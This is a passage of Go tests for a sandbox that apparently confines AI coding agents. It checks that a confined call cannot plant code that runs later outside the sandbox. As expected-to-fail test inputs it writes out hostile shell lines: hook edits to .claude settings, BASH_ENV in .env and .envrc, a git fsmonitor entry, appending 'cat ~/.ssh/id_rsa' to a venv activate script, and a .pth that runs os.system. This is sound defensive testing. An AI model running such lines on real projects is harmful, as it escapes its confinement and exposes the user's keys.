	must(t, os.WriteFile(vscode, nil, 0o644))
	p := w.profile(t, UnknownEffects, Options{})
	if !slices.Contains(p.Protected, vscode) {
		t.Errorf("protected = %v, want %s", p.Protected, vscode)
	}
	code, _, _ := w.run(t, p, "sh", "-c", `rm -f .vscode; mkdir .vscode; echo '{"tasks":[]}' > .vscode/tasks.json`)
	if code == 0 {
		t.Error("the call replaced .vscode")
	}
	if fi, err := os.Lstat(vscode); err != nil || !fi.Mode().IsRegular() {
		t.Errorf(".vscode after the call: %v, %v; want the file", fi, err)
	}
}

// TestLeftoverPlaceholderIgnored: the empty placeholder a killed
// launcher left (.mcp.json) is protected by the next call's profile and
// ignored by git inside it, as the placeholder of an absent path is:
// git add -A there does not record it.
func TestLeftoverPlaceholderIgnored(t *testing.T) {
	needBwrap(t)
	w := newCommittedWorld(t)
	mcp := filepath.Join(w.project, ".mcp.json")
	must(t, os.WriteFile(mcp, nil, 0o444))
	p := w.profile(t, UnknownEffects, Options{})
	if !slices.Contains(p.Protected, mcp) {
		t.Fatalf("protected = %v, want %s", p.Protected, mcp)
	}
	code, out, errOut := w.run(t, p, "sh", "-c", "git status --porcelain --untracked-files=all -- .mcp.json")
	if code != 0 || out != "" {
		t.Errorf("git sees the leftover placeholder: exit %d, %q %s", code, out, errOut)
	}
}

// TestProtectedLinkTarget: a protected path that is a link to a folder
// of the project (.claude leading to claude-config) keeps what it leads
// to read-only, through the link and by its own name.
func TestProtectedLinkTarget(t *testing.T) {
	needBwrap(t)
	w := newWorld(t)
	claude := filepath.Join(w.project, ".claude")
	real := filepath.Join(w.project, "claude-config")
	must(t, os.Rename(claude, real))
	must(t, os.Symlink("claude-config", claude))
	p := w.profile(t, UnknownEffects, Options{})
	code, out, _ := w.run(t, p, "sh", "-c", `echo '{"hooks":1}' > .claude/settings.json || echo refused; echo '{"hooks":2}' > claude-config/settings.json || echo refused; touch claude-config/new || echo refused`)
	if code != 0 || out != "refused\nrefused\nrefused\n" {
		t.Errorf("exit %d, output %q", code, out)
	}
	wantFile(t, filepath.Join(real, "settings.json"), "{}\n")
}

// A call that starts in a folder below the project's root cannot leave an
// environment file there that Gemini CLI started in that folder (.env,
// .gemini/.env) or direnv (.envrc) would load later, outside the
// confinement; the folder stays writable otherwise.
func TestEnvFilesBelowRoot(t *testing.T) {
	needBwrap(t)
	t.Parallel()
	w := newWorld(t)
	sub := filepath.Join(w.project, "sub")
	w.req.Cwd = sub
	p := w.profile(t, UnknownEffects, Options{})
	p.Cwd = sub
	// .env below the root is checked after the call (moved aside), not
	// held: only Gemini CLI reads it there, as it starts.
	w.run(t, p, "/bin/sh", "-c", "echo 'BASH_ENV=./x.sh' > .env")
	for _, script := range []string{
		"echo 'BASH_ENV=./x.sh' > .envrc",
		"mkdir -p .gemini && echo 'BASH_ENV=./x.sh' > .gemini/.env",
	} {
		if code, _, _ := w.run(t, p, "/bin/sh", "-c", script); code == 0 {
			t.Errorf("%q: exit 0", script)
		}
	}
	for _, f := range []string{".env", ".envrc", ".gemini"} {
		wantMissing(t, filepath.Join(sub, f))
	}
	if code, _, stderr := w.run(t, p, "/bin/sh", "-c", "echo x > notes.txt"); code != 0 {
		t.Errorf("another file in the folder: exit %d, %s", code, stderr)
	}
	// While a job of an earlier call holds the placeholder of .gemini (a
	// file), the next call's profile keeps it as it is.
	must(t, os.WriteFile(filepath.Join(sub, ".gemini"), nil, 0o444))
	p = w.profile(t, UnknownEffects, Options{})
	p.Cwd = sub
	if code, _, stderr := w.run(t, p, "/bin/sh", "-c", "rm -f .gemini; echo x > notes.txt"); code != 0 {
		t.Errorf("with .gemini a file: exit %d, %s", code, stderr)
	}
	if fi, err := os.Lstat(filepath.Join(sub, ".gemini")); err != nil || fi.IsDir() {
		t.Errorf(".gemini = %v, %v; want the file kept", fi, err)
	}
}

// A file the repository's configuration includes is configuration: a
// call cannot write one in the work tree (core.fsmonitor there would run
// on the person's next git status), nor make one that is included but
// absent, nor one that an included file includes in turn.
func TestGitIncludesProtected(t *testing.T) {
	needBwrap(t)
	t.Parallel()
	w := newWorld(t)
	must(t, os.WriteFile(filepath.Join(w.project, ".git/config"),
		[]byte("[core]\n[include]\n\tpath = ../team.gitconfig\n[includeIf \"gitdir:**\"]\n\tpath = \"../later.gitconfig\"\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(w.project, "team.gitconfig"), []byte("[include]\n\tpath = nested/more.gitconfig\n"), 0o644))
	p := w.profile(t, UnknownEffects, Options{})
	for _, script := range []string{
		"printf '[core]\\n\\tfsmonitor = ./x\\n' >> team.gitconfig",
		"printf '[core]\\n\\tfsmonitor = ./x\\n' > later.gitconfig",
		"mkdir -p nested && printf '[core]\\n\\tfsmonitor = ./x\\n' > nested/more.gitconfig",
	} {
		if code, _, _ := w.run(t, p, "/bin/sh", "-c", script); code == 0 {
			t.Errorf("%q: exit 0", script)
		}
	}
	wantFile(t, filepath.Join(w.project, "team.gitconfig"), "[include]\n\tpath = nested/more.gitconfig\n")
	wantMissing(t, filepath.Join(w.project, "later.gitconfig"))
	wantMissing(t, filepath.Join(w.project, "nested"))
}

// What an editor runs of a project's virtual environment as it opens the
// project (its interpreter, the activate scripts it sources, pyvenv.cfg)
// stays read-only; the environment's folder takes new programs as
// installs write them.
func TestVenvOpenedCode(t *testing.T) {
	needBwrap(t)
	t.Parallel()
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 is not installed")
	}
	w := newWorld(t)
	venv := filepath.Join(w.project, ".venv")
	if out, err := exec.Command("python3", "-m", "venv", "--without-pip", venv).CombinedOutput(); err != nil {
		t.Skipf("python3 -m venv: %v %s", err, out)
	}
	before, err := os.ReadFile(filepath.Join(venv, "bin", "activate"))
	must(t, err)
	p := w.profile(t, UnknownEffects, Options{})
	site, _ := filepath.Glob(filepath.Join(venv, "lib", "python*", "site-packages"))
	if len(site) != 1 {
		t.Fatalf("site-packages: %v", site)
	}
	rel := strings.TrimPrefix(site[0], w.project+"/")
	scripts := []string{
		"echo 'cat ~/.ssh/id_rsa' >> .venv/bin/activate",
		"echo 'home = /tmp/evil' > .venv/pyvenv.cfg",
		// Code the interpreter runs at every start.
		"echo 'import os; os.system(\"id\")' > " + rel + "/zz.pth",
		"echo 'import os' > " + rel + "/sitecustomize.py",
		"mkdir " + rel + "/_distutils_hack",
	}
	// A link is kept only by the launcher's own sandbox (bubblewrap
	// cannot mount one on itself: see docs/confinement.md).
	links := ownWorks() == nil && os.Getenv(BackendEnv) != "bubblewrap"
	if links {
		scripts = append(scripts, "rm -f .venv/bin/python && printf '#!/bin/sh\\n' > .venv/bin/python")
	}
	for _, script := range scripts {
		if code, _, _ := w.run(t, p, "/bin/sh", "-c", script); code == 0 {
			t.Errorf("%q: exit 0", script)
		}
	}
	wantFile(t, filepath.Join(venv, "bin", "activate"), string(before))
	if fi, err := os.Lstat(filepath.Join(venv, "bin", "python")); links && (err != nil || fi.Mode()&os.ModeSymlink == 0) {
		t.Errorf(".venv/bin/python is no longer the link venv made: %v %v", fi, err)
	}
	// Every program of its bin is the person's to run (pip, an entry
	// point): a new one too; the rest of the environment is writable.
	if code, _, _ := w.run(t, p, "/bin/sh", "-c", "echo x > .venv/bin/pytest"); code == 0 {
		t.Errorf("a new program in .venv/bin: exit 0")
	}
	if code, _, stderr := w.run(t, p, "/bin/sh", "-c", "mkdir -p .venv/lib/x"); code != 0 {
		t.Errorf("a write beside site-packages: exit %d, %s", code, stderr)
	}
	wantMissing(t, filepath.Join(site[0], "zz.pth"))
	// What an environment already holds runs: a package of its own
	// whose byte code cache cannot be written is imported all the same,
	// and nothing is said of the cache. (An interpreter of the system's:
	// the sandbox's home is not the user's, where pyenv keeps its own.)
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		return
	}
	sys := filepath.Join(w.project, "venv")
	if out, err := exec.Command("/usr/bin/python3", "-m", "venv", "--without-pip", sys).CombinedOutput(); err != nil {
		t.Skipf("python3 -m venv: %v %s", err, out)
	}
	sysSite, _ := filepath.Glob(filepath.Join(sys, "lib", "python*", "site-packages"))
	if len(sysSite) != 1 {
		t.Fatalf("site-packages: %v", sysSite)
	}
	must(t, os.WriteFile(filepath.Join(sysSite[0], "mine.py"), []byte("X = 1\n"), 0o644))
	p = w.profile(t, UnknownEffects, Options{})
	code, stdout, stderr := w.run(t, p, "/bin/sh", "-c", "venv/bin/python -c 'import mine; print(mine.X)' && venv/bin/python -m site >/dev/null")
	if code != 0 || strings.TrimSpace(stdout) != "1" || strings.TrimSpace(stderr) != "" {
		t.Errorf("import from a read-only site-packages: exit %d, %q, %q", code, stdout, stderr)
	}
	wantMissing(t, filepath.Join(sysSite[0], "__pycache__"))
	if code, _, _ := w.run(t, p, "/bin/sh", "-c", "echo 'import os' > "+strings.TrimPrefix(sysSite[0], w.project+"/")+"/a.pth"); code == 0 {
		t.Errorf("a .pth written into venv's site-packages")
	}
}
